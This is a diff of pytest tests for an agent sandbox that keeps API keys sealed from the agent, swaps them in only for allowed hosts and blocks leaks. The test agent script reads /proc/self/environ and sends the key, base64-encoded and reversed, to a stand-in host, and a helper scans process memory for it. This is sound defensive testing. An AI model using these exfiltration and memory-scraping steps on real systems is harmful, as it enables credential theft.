@@ -286,3 +286,214 @@ def test_network_part_of_a_run_is_confined(renv, upstream):
     fin = [e for e in events if e["type"] == "run.finished"][-1]
     res = json.loads((Path(fin["run_dir"]) / "result.json").read_text())
     assert res["protections"]["network_part"] == part
+
+
+# ------------------------------------------------------------ sealed secrets
+
+SEALED = "sk-proj-Q7vX2mR9tL4wK8nB3cF6hJ1pZ5yD0sG2aE9uT4oW"  # the real value
+
+SEALED_AGENT = r'''
+import base64, json, os, time, urllib.request, urllib.error
+port = open("/agent/port").read().strip()
+key = os.environ["API_KEY"]
+out = {"len": len(key), "rev": key[::-1],
+       "environ_rev": open("/proc/self/environ", "rb").read()[::-1].hex()}
+open("/workspace/keep.txt", "w").write(key)
+def call(name, url, body=None, headers=None):
+    req = urllib.request.Request(url, data=body, headers=headers or {}, method="POST" if body else "GET")
+    try:
+        with urllib.request.urlopen(req, timeout=10) as r:
+            out[name] = [r.status, r.read().decode("latin-1")[::-1]]
+    except urllib.error.HTTPError as e:
+        out[name] = [e.code, ""]
+    except OSError as e:
+        out[name] = [str(e), ""]
+basic = base64.b64encode(("user:" + key).encode()).decode()
+call("scoped", "http://llm.test:%s/v1?key=%s" % (port, key), json.dumps({"api_key": key}).encode(),
+     {"Authorization": "Bearer " + key, "X-Api-Key": key, "Content-Type": "application/json"})
+call("basic", "http://llm.test:%s/basic" % port, headers={"Authorization": "Basic " + basic})
+# Out of scope: the placeholder, and transforms of it.
+call("elsewhere", "http://other.test:%s/x" % port, headers={"X-Key": key})
+call("elsewhere_b64", "http://other.test:%s/x" % port,
+     headers={"X-Key": base64.b64encode(key.encode()).decode()})
+call("elsewhere_rev", "http://other.test:%s/x" % port, headers={"X-Key": key[::-1]})
+json.dump(out, open("/workspace/output.json", "w"))
+open("/workspace/done", "w").write("1")
+time.sleep(float(json.load(open("/workspace/input.json")).get("linger", 0)))
+'''
+
+
+def memory_has(pids, needle):
+    """Whether any readable mapping of these processes holds needle."""
+    for pid in pids:
+        try:
+            maps = open(f"/proc/{pid}/maps").read().splitlines()
+            mem = open(f"/proc/{pid}/mem", "rb", 0)
+        except OSError:
+            continue
+        with mem:
+            for line in maps:
+                addr, perms = line.split()[:2]
+                if not perms.startswith("r") or "[vvar]" in line or "[vsyscall]" in line:
+                    continue
+                lo, hi = (int(x, 16) for x in addr.split("-"))
+                try:
+                    mem.seek(lo)
+                    if needle in mem.read(hi - lo):
+                        return True
+                except (OSError, OverflowError, ValueError):
+                    continue
+    return False
+
+
+def sealed_env(renv):
+    r = renv.cordon("secret", "set", "API_KEY", input=SEALED)
+    assert r.returncode == 0, r.stderr
+
+
+def sealed_manifest(**egress):
+    m = {"name": "sealed", "version": "1", "profile": "deployment",
+         "entrypoint": ["python3", "/agent/main.py"], "required_secrets": ["API_KEY"],
+         "egress": {"domains": ["llm.test", "other.test"], "secrets": {"API_KEY": ["llm.test"]}}}
+    m["egress"].update(egress)
+    return m
+
+
+def test_sealed_secret_never_enters_the_sandbox(renv, upstream):
+    """The agent holds a placeholder of the same shape; the scoped upstream
+    gets the real value in the query, the headers (Basic included) and the
+    body; its echo comes back as the placeholder; elsewhere the placeholder
+    is blocked like the secret; the value is nowhere in the sandbox: not in
+    its environment, files or the memory of its processes."""
+    from conftest import sandbox_processes
+    sealed_env(renv)
+    d = renv.agent("sealed", sealed_manifest(), SEALED_AGENT)
+    (d / "port").write_text(str(upstream.port))
+    inp = renv.tmp / "input.json"
+    inp.write_text('{"linger": 4}')
+    p = subprocess.Popen([CORDON, "run", "--json", "--policy", renv.policy, "--hosts", renv.hosts,
+                          "--allow-private", f"127.0.0.1:{upstream.port}", "-i", inp, d],
+                         env=dict(os.environ, CORDON_STATE=str(renv.state)),
+                         stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+    try:
+        # While the agent lingers (after its requests): its processes' memory.
+        assert wait_until(lambda: any("egress.blocked" in f.read_text() and
+                                      f.read_text().count("egress.") >= 5
+                                      for f in renv.state.glob("runs/*/events.ndjson")), timeout=30)
+        pids = sandbox_processes()
+        assert pids
+        assert not memory_has(pids, SEALED.encode()), "the sealed value is in a sandbox process"
+        out, err = p.communicate(timeout=60)
+    finally:
+        if p.poll() is None:
+            p.kill()
+            p.wait()
+    assert p.returncode == 0, err
+    events = [json.loads(l) for l in out.splitlines() if l.startswith("{")]
+    fin = [e for e in events if e["type"] == "run.finished"][-1]
+    res = json.loads((Path(fin["run_dir"]) / "result.json").read_text())
+    o = res["output"]
+    held = o["rev"][::-1]
+    assert held != SEALED and len(held) == len(SEALED) and held.startswith("sk-proj-")
+    assert SEALED[::-1].encode().hex() not in o["environ_rev"]
+    # The scoped upstream saw the value everywhere the agent put its placeholder.
+    seen = {path.split("?")[0]: (path, headers, body) for (_, path, headers, body) in upstream.log}
+    path, headers, body = seen["/v1"]
+    assert path == f"/v1?key={SEALED}"
+    assert headers["Authorization"] == "Bearer " + SEALED and headers["X-Api-Key"] == SEALED
+    assert json.loads(body) == {"api_key": SEALED}
+    import base64
+    assert seen["/basic"][1]["Authorization"] == "Basic " + base64.b64encode(
+        ("user:" + SEALED).encode()).decode()
+    # The echo came back with the placeholder, not the value.
+    assert o["scoped"][0] == 200
+    echo = o["scoped"][1][::-1]
+    assert SEALED not in echo and held in echo
+    # Elsewhere: the placeholder and its base64 are blocked like a leak; the
+    # reversed placeholder passes, and is not the secret.
+    assert o["elsewhere"][0] == 403 and o["elsewhere_b64"][0] == 403
+    assert o["elsewhere_rev"][0] == 200
+    leaks = [e for e in events if e["type"] == "egress.blocked" and "credential" in json.dumps(e)]
+    assert len(leaks) == 2
+    for (_, _, headers, body) in upstream.log:
+        text = json.dumps(headers) + body.decode("latin-1")
+        if "other" in headers.get("Host", ""):
+            assert SEALED not in text and SEALED[::-1] not in text
+    # Delivery is on the record.
+    assert res["protections"]["secrets"]["API_KEY"]["delivery"] == "sealed"
+
+
+def test_raw_secret_is_the_value_and_still_scoped(renv, upstream):
+    sealed_env(renv)
+    m = sealed_manifest(secrets={"API_KEY": {"domains": ["llm.test"], "raw": True}})
+    d = renv.agent("raw", m, SEALED_AGENT)
+    (d / "port").write_text(str(upstream.port))
+    r, events = renv.run(d)
+    assert r.returncode == 0, r.stderr
+    res, _ = renv.result(events)
+    assert res["output"]["rev"][::-1] == SEALED
+    assert res["protections"]["secrets"]["API_KEY"]["delivery"] == "raw"
+    assert res["output"]["elsewhere"][0] == 403
+
+
+def test_sealed_secret_over_https_is_swapped_by_automatic_inspection(renv, tmp_path):
+    """The policy does not inspect secure.test; the sealed secret's scope
+    makes it inspected, so the swap happens inside TLS too."""
+    from test_egress import tls_upstream as _unused  # noqa: F401
+    import ssl
+    import threading
+    from http.server import ThreadingHTTPServer
+    from upstream import Handler
+    d = tmp_path / "pki"
+    d.mkdir()
+    def ossl(*a):
+        rr = subprocess.run(["openssl", *a], cwd=d, capture_output=True, text=True)
+        assert rr.returncode == 0, rr.stderr
+    ossl("req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
+         "-keyout", "ca.key", "-out", "ca.pem", "-days", "2", "-subj", "/CN=cordon test CA")
+    ossl("req", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
+         "-keyout", "srv.key", "-out", "srv.csr", "-subj", "/CN=secure.test")
+    (d / "ext").write_text("subjectAltName=DNS:secure.test\n")
+    ossl("x509", "-req", "-in", "srv.csr", "-CA", "ca.pem", "-CAkey", "ca.key", "-CAcreateserial",
+         "-out", "srv.pem", "-days", "1", "-extfile", "ext")
+    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+    ctx.load_cert_chain(d / "srv.pem", d / "srv.key")
+    httpd.socket = ctx.wrap_socket(httpd.socket, server_side=True)
+    threading.Thread(target=httpd.serve_forever, daemon=True).start()
+    Handler.log.clear()
+    port = httpd.server_address[1]
+    try:
+        sealed_env(renv)
+        renv.hosts.write_text(renv.hosts.read_text() + "127.0.0.1 secure.test\n")
+        renv.policy.write_text(f"version: 1\ndomains:\n  - name: secure.test\n    ports: [{port}]\n")
+        code = ("import os, urllib.request\n"
+                f"req = urllib.request.Request('https://secure.test:{port}/tls', "
+                "headers={'Authorization': 'Bearer ' + os.environ['API_KEY']})\n"
+                "print(urllib.request.urlopen(req, timeout=10).status)\n")
+        m = {"name": "tls", "version": "1", "profile": "deployment",
+             "entrypoint": ["python3", "/agent/main.py"], "required_secrets": ["API_KEY"],
+             "egress": {"domains": ["secure.test"], "secrets": {"API_KEY": ["secure.test"]}}}
+        a = renv.agent("tls", m, code)
+        r = renv.cordon("run", "--json", "--policy", renv.policy, "--hosts", renv.hosts,
+                        "--allow-private", f"127.0.0.1:{port}", "--upstream-ca", d / "ca.pem", a)
+        assert r.returncode == 0, r.stdout + r.stderr
+        auth = [h.get("Authorization") for (_, p, h, _) in Handler.log if p == "/tls"]
+        assert auth == ["Bearer " + SEALED]
+    finally:
+        httpd.shutdown()
+        httpd.server_close()
+
+
+def test_raw_secret_too_short_to_inspect_is_refused(renv, upstream):
+    r = renv.cordon("secret", "set", "API_KEY", input="short1")
+    assert r.returncode == 0
+    m = sealed_manifest(secrets={"API_KEY": {"domains": ["llm.test"], "raw": True}})
+    d = renv.agent("short", m, "print('hi')\n")
+    r, events = renv.run(d)
+    assert r.returncode == 125
+    assert "secret API_KEY is raw" in r.stderr and "at least 8" in r.stderr, r.stderr
+    # Sealed, the same short value is fine: it never enters the sandbox.
+    d2 = renv.agent("short2", sealed_manifest(), "print('hi')\n")
+    r2, _ = renv.run(d2)
+    assert r2.returncode == 0, r2.stderr
